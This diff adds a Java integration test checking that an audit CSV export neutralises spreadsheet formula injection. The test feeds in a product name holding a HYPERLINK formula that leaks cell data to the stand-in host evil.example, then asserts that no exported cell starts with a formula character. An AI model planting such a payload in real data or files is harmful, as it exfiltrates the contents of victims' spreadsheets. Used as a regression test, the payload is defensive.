@@ -230,6 +230,29 @@ class AuditTest extends IntegrationTest {
     }
 
     @Test
+    void aNameThatLooksLikeAFormulaIsExportedAsTextInsideThePayload() throws Exception {
+        String name = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for discount\")";
+        String sku = "CSV-FORMULA-" + System.nanoTime();
+        Instant from = Instant.now().truncatedTo(ChronoUnit.MILLIS).minusSeconds(1);
+        var listed = as(VENDOR_LTP_PHONE).post("/v1/products",
+                Map.of("sku", sku, "name", name, "unit", "packet", "price", "10.00"));
+        assertThat(listed.status()).as(listed.toString()).isEqualTo(201);
+        String productId = listed.data().get("productId").asText();
+        Instant to = Instant.now().plusSeconds(1);
+
+        var csv = as(AUDITOR_PHONE).get("/v1/audit/events/export?format=csv&from=" + from + "&to=" + to);
+        assertThat(csv.status()).as(csv.toString()).isEqualTo(200);
+        List<Map<String, String>> rows = csvRows(csv.text());
+        Map<String, String> row = rows.stream().filter(r -> productId.equals(r.get("aggregateId"))).findFirst()
+                .orElseThrow(() -> new AssertionError("the listing of " + sku + " is not in the export"));
+        assertThat(json.readTree(row.get("payload")).findValuesAsText("name")).contains(name);
+        for (Map<String, String> each : rows) {
+            each.forEach((column, cell) -> assertThat(cell).as(column + " of " + each.get("eventId"))
+                    .doesNotMatch("(?s)^[=+\\-@\\t\\r].*"));
+        }
+    }
+
+    @Test
     void exportsAreDownloadsOfTheirOwnContentType() {
         var csv = download("/v1/audit/orders/" + orderId + "/export?format=csv");
         assertThat(csv.contentType()).startsWith("text/csv");
